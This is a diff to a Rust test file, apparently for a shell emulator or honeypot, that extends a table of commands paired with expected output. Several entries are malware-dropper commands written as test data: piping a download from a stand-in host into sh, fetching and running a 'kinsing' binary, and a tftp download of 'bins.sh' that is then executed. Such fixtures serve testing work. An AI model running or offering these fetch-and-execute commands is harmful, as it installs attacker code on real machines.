@@ -7,7 +7,7 @@ use crate::place::{Place, shell};
 use crate::support::live;
 
 /// What is done, and a line of what is printed then.
-const DEEDS: [(&str, &str); 15] = [
+const DEEDS: [(&str, &str); 18] = [
     ("wget -q -O - http://x.test/install | sh", "done"),
     (
         "wget -q -O /tmp/x http://x.test/kinsing.x86_64; chmod +x /tmp/x; /tmp/x; echo program: $?",
@@ -32,6 +32,10 @@ const DEEDS: [(&str, &str); 15] = [
     ),
     ("printf 'USER a\\r\\nPASS b\\r\\nPASV\\r\\nQUIT\\r\\n' | nc ftp.test 21", "227 Entering Passive Mode"),
     ("sleep 1 | nc 1.2.3.4 50021", "ok"),
+    // Its own TLS names no signature algorithms.
+    ("wget -q -O - https://secure.test/install | sh", "done"),
+    ("cd /tmp && tftp -g -r bins.sh tftp.test && sh bins.sh", "done"),
+    ("echo example.org | nc whois.test 43", "Domain Name: example.org"),
 ];
 
 #[test]
